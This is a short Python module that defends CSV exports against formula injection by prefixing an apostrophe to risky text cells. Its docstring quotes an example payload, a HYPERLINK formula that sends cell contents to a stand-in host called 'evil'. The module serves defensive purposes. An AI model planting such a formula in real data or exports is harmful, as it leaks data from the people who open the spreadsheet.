"""Cells of the CSV exports (audit log, analytics, a campaign's quota report), one rule for all.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
a carriage return) as a formula: a display name such as ``=HYPERLINK("http://evil/?"&A1)`` in an
export would run on the admin's machine (CSV injection). Text that begins so is prefixed with an
apostrophe, which spreadsheets show as text. Numbers are left as numbers.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet runs: None is empty, formula-like text is quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
